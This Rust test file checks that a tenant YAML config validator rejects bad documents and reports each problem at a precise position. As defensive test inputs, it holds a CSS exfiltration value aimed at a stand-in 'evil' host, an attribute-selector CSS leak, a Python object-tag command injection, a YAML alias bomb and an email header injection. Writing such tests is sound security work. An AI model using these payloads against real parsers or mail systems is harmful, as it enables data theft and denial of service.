//! The golden corpus of bad tenant documents (security spec item 65, issue 2 acceptance):
//! each is rejected with a message a product owner understands, at the right key path and
//! `line:column`.

#![allow(clippy::unwrap_used, clippy::panic)] // test helpers fail loudly by design

use passgate_tenant::{ConfigErrors, Problem, Severity, parse_tenant_yaml};

const HEAD: &str = "id: acme\ndisplay_name: Acme\n";

fn errors(yaml: &str) -> Vec<Problem> {
    match parse_tenant_yaml("acme.yaml", yaml) {
        Ok(_) => panic!("accepted:\n{yaml}"),
        Err(e) => e.errors().cloned().collect(),
    }
}

/// Asserts that the document is rejected with an error at `path`, `line:column`, whose
/// message contains `text`.
#[track_caller]
fn assert_error(yaml: &str, path: &str, line: usize, column: usize, text: &str) {
    let errors = errors(yaml);
    let found = errors.iter().any(|p| {
        p.path == path && p.line == line && p.column == column && p.message.contains(text)
    });
    assert!(
        found,
        "expected {path} at {line}:{column} containing {text:?}, got {errors:#?}"
    );
}

#[test]
fn unknown_key() {
    let yaml = format!("{HEAD}password_policy:\n  min_length: 12\n  max_lenght: 100\n");
    assert_error(
        &yaml,
        "password_policy.max_lenght",
        5,
        3,
        "unknown key `max_lenght`",
    );
}

#[test]
fn unknown_top_level_key_such_as_a_provider_secret() {
    let yaml = format!("{HEAD}auth0_client_secret: s3cr3t\n");
    assert_error(
        &yaml,
        "auth0_client_secret",
        3,
        1,
        "unknown key `auth0_client_secret`",
    );
}

#[test]
fn wrong_type() {
    let yaml = format!("{HEAD}password_policy:\n  min_length: twelve\n");
    assert_error(
        &yaml,
        "password_policy.min_length",
        4,
        15,
        "expected a whole number",
    );
    let yaml = format!("{HEAD}client_ids: acme-ios\n");
    assert_error(&yaml, "client_ids", 3, 13, "");
}

#[test]
fn norway_stays_a_string_and_is_not_a_boolean() {
    let yaml = format!("{HEAD}email:\n  password_changed_notice: NO\n");
    assert_error(
        &yaml,
        "email.password_changed_notice",
        4,
        28,
        "invalid boolean",
    );
    // …and where a string is expected, NO is the text "NO".
    let ok = parse_tenant_yaml("x.yaml", "id: acme\ndisplay_name: NO\n").unwrap();
    assert_eq!(ok.config.display_name, "NO");
}

#[test]
fn bad_regex() {
    let yaml = format!(
        "{HEAD}password_policy:\n  regex_rules:\n    - name: ok\n      pattern: \"a+\"\n      message: x.ok\n    - name: bad\n      pattern: \"(a\"\n      message: x.bad\n"
    );
    assert_error(
        &yaml,
        "password_policy.regex_rules[1].pattern",
        9,
        16,
        "unclosed group",
    );
}

#[test]
fn pathological_regex_hits_the_size_limit() {
    let yaml = format!(
        "{HEAD}password_policy:\n  regex_rules:\n    - name: huge\n      pattern: '\\w{{1000}}{{1000}}'\n      message: x.huge\n"
    );
    assert_error(
        &yaml,
        "password_policy.regex_rules[0].pattern",
        6,
        16,
        "size limit",
    );
}

#[test]
fn script_syntax_error_points_at_the_line_inside_the_script() {
    let yaml = format!(
        "{HEAD}password_policy:\n  script:\n    source: |\n      function validate(password, ctx) {{\n        return [\n      }}\n"
    );
    // Script line 3 is document line 8.
    assert_error(&yaml, "password_policy.script.source", 8, 7, "SyntaxError");
}

#[test]
fn script_that_could_swallow_a_limit_hit_is_refused_at_its_line() {
    let yaml = format!(
        "{HEAD}password_policy:\n  script:\n    source: |\n      function validate(password, ctx) {{\n        try {{ return []; }} finally {{ }}\n      }}\n"
    );
    // Script line 2 (`try`) is document line 7.
    assert_error(
        &yaml,
        "password_policy.script.source",
        7,
        7,
        "`try` is not allowed",
    );
}

#[test]
fn script_that_loops_fails_its_example() {
    let yaml = format!(
        "{HEAD}password_policy:\n  script:\n    source: |\n      function validate(password, ctx) {{ while (true) {{}} }}\n    timeout_ms: 20\n    examples:\n      - password: correct horse battery staple\n        expect: []\n"
    );
    // The example runs into the CPU-time interrupt. (On a machine so loaded that even the
    // script's top level misses the budget, compiling fails first, at the source: the
    // outcome a user sees — rejected, positioned — is the same.)
    let errors = errors(&yaml);
    let at_example = errors.iter().any(|p| {
        p.path == "password_policy.script.examples[0]"
            && (p.line, p.column) == (9, 9)
            && p.message.contains("timeout")
    });
    let at_source = errors.iter().any(|p| {
        p.path == "password_policy.script.source"
            && (p.line, p.column) == (6, 7)
            && p.message.contains("did not finish")
    });
    assert!(at_example || at_source, "{errors:#?}");
}

#[test]
fn script_example_with_wrong_expectation() {
    let yaml = format!(
        "{HEAD}password_policy:\n  script:\n    source: |\n      function validate(password, ctx) {{ return password.includes('x') ? ['no_x'] : [] }}\n    timeout_ms: 100\n    examples:\n      - password: correct horse battery staple\n        expect: []\n      - password: extra correct horse battery\n        expect: []\n"
    );
    assert_error(
        &yaml,
        "password_policy.script.examples[1]",
        11,
        9,
        "script:no_x",
    );
}

#[test]
fn min_length_below_the_floor() {
    let yaml = format!("{HEAD}password_policy:\n  min_length: 7\n");
    assert_error(&yaml, "password_policy.min_length", 4, 15, "at least 8");
    let yaml = format!("{HEAD}password_policy:\n  min_length: 4\n  max_length: 32\n");
    assert_error(
        &yaml,
        "password_policy.max_length",
        5,
        15,
        "between 64 and 1024",
    );
}

#[test]
fn message_for_an_unsupported_locale() {
    let yaml = format!(
        "{HEAD}locales: {{ default: en, supported: [en, fr] }}\nmessages:\n  fr: {{ policy.min_length: \"Au moins {{min}}\" }}\n  de:\n    policy.min_length: \"Mindestens {{min}}\"\n"
    );
    assert_error(
        &yaml,
        "messages.de",
        6,
        3,
        "messages for de, which is not a supported locale",
    );
}

#[test]
fn default_locale_must_be_supported() {
    let yaml = format!("{HEAD}locales:\n  default: fr\n  supported: [en]\n");
    assert_error(&yaml, "locales.default", 4, 12, "must also be listed");
}

#[test]
fn malformed_redirect_uri() {
    let yaml =
        format!("{HEAD}reset:\n  redirect_uris:\n    - acmeshop://done\n    - /relative/done\n");
    assert_error(&yaml, "reset.redirect_uris[1]", 6, 7, "not an absolute URI");
}

#[test]
fn wildcard_redirect_uri() {
    let yaml = format!("{HEAD}reset:\n  redirect_uris: [\"*\", \"https://*.acme.example/done\"]\n");
    let errors = errors(&yaml);
    assert!(
        errors
            .iter()
            .any(|p| p.path == "reset.redirect_uris[0]" && p.message.contains("wildcards"))
    );
    assert_error(
        &yaml,
        "reset.redirect_uris[1]",
        4,
        24,
        "wildcards are not allowed",
    );
}

#[test]
fn token_ttl_bounds_depend_on_delivery() {
    let yaml = format!("{HEAD}reset:\n  token_ttl: 2h\n");
    assert_error(&yaml, "reset.token_ttl", 4, 14, "between 5m and 1h");
    let yaml = format!("{HEAD}reset:\n  delivery: code\n  token_ttl: 30m\n");
    assert_error(&yaml, "reset.token_ttl", 5, 14, "between 5m and 10m");
    let yaml = format!("{HEAD}reset:\n  mode: janrain\n  delivery: code\n");
    assert_error(&yaml, "reset.delivery", 5, 13, "needs mode: hosted");
}

#[test]
fn rate_limits_cannot_exceed_the_platform_ceiling() {
    let yaml = format!("{HEAD}rate_limits:\n  requests_per_account_per_hour: 1000\n");
    assert_error(
        &yaml,
        "rate_limits.requests_per_account_per_hour",
        4,
        34,
        "between 1 and 10",
    );
}

#[test]
fn custom_css_cannot_exfiltrate() {
    let yaml = format!("{HEAD}branding:\n  custom_css: \"a{{background:url(//evil/?)}}\"\n");
    assert_error(&yaml, "branding.custom_css", 4, 15, "url(");
    let yaml = format!("{HEAD}branding:\n  custom_css: \"input[value^=a]{{color:red}}\"\n");
    assert_error(&yaml, "branding.custom_css", 4, 15, "attribute selectors");
}

#[test]
fn oversized_document() {
    let yaml = format!("{HEAD}{}", "# padding\n".repeat(1_000_000));
    assert_error(&yaml, "", 1, 1, "at most 256 KiB");
}

#[test]
fn alias_bomb() {
    let mut yaml = String::from(HEAD);
    yaml.push_str("password_policy:\n  blocklist: &i [&h [&g [&f [&e [&d [&c [&b [&a [lol, lol, lol, lol, lol, lol, lol, lol, lol]");
    for level in ["a", "b", "c", "d", "e", "f", "g", "h"] {
        yaml.push_str(&format!(", *{level}").repeat(6));
        yaml.push(']');
    }
    yaml.push('\n');
    assert_error(&yaml, "", 1, 1, "alias bomb");
}

#[test]
fn too_many_aliases() {
    let mut yaml = format!("{HEAD}password_policy:\n  blocklist: [&w acme");
    yaml.push_str(&", *w".repeat(100));
    yaml.push_str("]\n");
    assert_error(&yaml, "", 1, 1, "100 aliases");
}

#[test]
fn deep_nesting() {
    let yaml = format!(
        "{HEAD}messages: {}{}\n",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    let errors = errors(&yaml);
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert!(errors[0].message.contains("levels deep"), "{errors:#?}");
    assert_eq!(errors[0].line, 3);
}

#[test]
fn duplicate_key() {
    let yaml = format!("{HEAD}password_policy:\n  min_length: 12\n  min_length: 9\n");
    assert_error(
        &yaml,
        "password_policy.min_length",
        5,
        3,
        "duplicate mapping key `min_length`",
    );
}

#[test]
fn python_object_tag() {
    let yaml = "id: acme\ndisplay_name: !!python/object/apply:os.system [\"echo pwned\"]\n";
    let errors = errors(yaml);
    assert!(errors[0].message.contains("unsupported tag"), "{errors:#?}");
    assert_eq!(
        (errors[0].line, errors[0].path.as_str()),
        (2, "display_name")
    );
}

#[test]
fn merge_keys_and_multiple_documents_are_refused() {
    let yaml = format!("{HEAD}password_policy:\n  <<: {{ min_length: 4 }}\n");
    assert_error(&yaml, "password_policy[\"<<\"]", 4, 3, "merge key");
    let yaml = format!("{HEAD}---\nid: other\ndisplay_name: Other\n");
    assert_error(&yaml, "", 4, 1, "single YAML document");
}

#[test]
fn every_problem_is_reported_at_once_in_document_order() {
    let yaml = "id: Acme!\ndisplay_name: \"\"\ntheme: Bank\nbranding:\n  primary_color: blue\nlocales:\n  default: EN\n  supported: [en, en]\nreset:\n  redirect_uris: [\"http://shop.example/done\"]\nemail:\n  from: \"Acme\\r\\nBcc: x@evil.example <a@acme.example>\"\n";
    let err = parse_tenant_yaml("acme.yaml", yaml).unwrap_err();
    let paths: Vec<&str> = err.errors().map(|p| p.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "id",
            "display_name",
            "theme",
            "branding.primary_color",
            "locales.default",
            "locales.supported[1]",
            "reset.redirect_uris[0]",
            "email.from",
        ]
    );
}

#[test]
fn problems_display_as_file_line_column_path_message() {
    let yaml = format!(
        "{HEAD}password_policy:\n  min_length: 7\n  character_classes: {{ require: [digit] }}\n"
    );
    let err: ConfigErrors = parse_tenant_yaml("tenants/acme.yaml", &yaml).unwrap_err();
    let text = err.to_string();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert!(
        lines[0]
            .starts_with("tenants/acme.yaml:4:15: password_policy.min_length: must be at least 8"),
        "{text}"
    );
    assert!(
        lines[1].starts_with(
            "tenants/acme.yaml:5:3: password_policy.character_classes: warning: composition rules"
        ),
        "{text}"
    );
    assert_eq!(err.problems[1].severity, Severity::Warning);
}

#[test]
fn missing_required_key_is_named_at_its_mapping() {
    assert_error(
        "id: acme\n",
        "display_name",
        1,
        1,
        "the required key `display_name` is missing",
    );
    let yaml = format!("{HEAD}password_policy:\n  regex_rules:\n    - name: x\n      pattern: y\n");
    assert_error(
        &yaml,
        "password_policy.regex_rules[0].message",
        5,
        7,
        "`message` is missing",
    );
    assert_error("", "", 1, 1, "the document is empty");
}

#[test]
fn a_misspelt_key_or_value_gets_a_suggestion() {
    let yaml = format!("{HEAD}password_policy:\n  max_lenght: 100\n");
    assert_error(
        &yaml,
        "password_policy.max_lenght",
        4,
        3,
        "(did you mean `max_length`?)",
    );
    let yaml = format!("{HEAD}reset:\n  mode: hostd\n");
    assert_error(&yaml, "reset.mode", 4, 9, "(did you mean `hosted`?)");
}

#[test]
fn every_unknown_key_is_reported_at_once() {
    // serde stops at its first problem; unknown keys are all found by a separate pass.
    let yaml = format!(
        "{HEAD}password_policy:\n  history: lots\n  min_lenght: 12\ncolour: red\nreset:\n  redirect_uri: https://acme.example/\n"
    );
    let errors = errors(&yaml);
    let found: Vec<(&str, usize, usize)> = errors
        .iter()
        .map(|p| (p.path.as_str(), p.line, p.column))
        .collect();
    assert_eq!(
        found,
        [
            ("password_policy.history", 4, 12),
            ("password_policy.min_lenght", 5, 3),
            ("colour", 6, 1),
            ("reset.redirect_uri", 8, 3),
        ],
        "{errors:#?}"
    );
    assert!(errors[0].message.contains("whole number"));
    assert!(
        errors[3]
            .message
            .ends_with("(did you mean `redirect_uris`?)")
    );
}

#[test]
fn a_script_param_computed_from_the_password_fails_its_example_clearly() {
    // Issue 13: `params` used to carry any string, so a script could show one user what it
    // computed from another's password. Now a param must be declared, with its literals.
    let yaml = format!(
        "{HEAD}password_policy:\n  script:\n    source: |\n      function validate(password, ctx) {{ return [{{ key: 'acme.note', params: {{ v: password.slice(0, 4) }} }}]; }}\n    params:\n      v: [abcd]\n    examples:\n      - password: correct horse battery staple\n        expect: [script:acme.note]\n"
    );
    assert_error(
        &yaml,
        "password_policy.script.examples[0]",
        10,
        9,
        "got [script_unavailable (bad_return)]: parameter `v` has a value that script.params does not declare for it",
    );
}

#[test]
fn script_params_are_declared_names_with_literal_values() {
    let yaml = format!(
        "{HEAD}password_policy:\n  script:\n    source: |\n      function validate(password, ctx) {{ return []; }}\n    params:\n      \"has space\": [1]\n      empty: []\n      max: [3, \"\"]\n"
    );
    assert_error(
        &yaml,
        "password_policy.script.params[\"has space\"]",
        8,
        7,
        "a param name is 1 to 64",
    );
    assert_error(
        &yaml,
        "password_policy.script.params.empty",
        9,
        7,
        "list 1 to 32 values",
    );
    assert_error(
        &yaml,
        "password_policy.script.params.max[1]",
        10,
        16,
        "a param value is a finite number or a one-line text",
    );
}
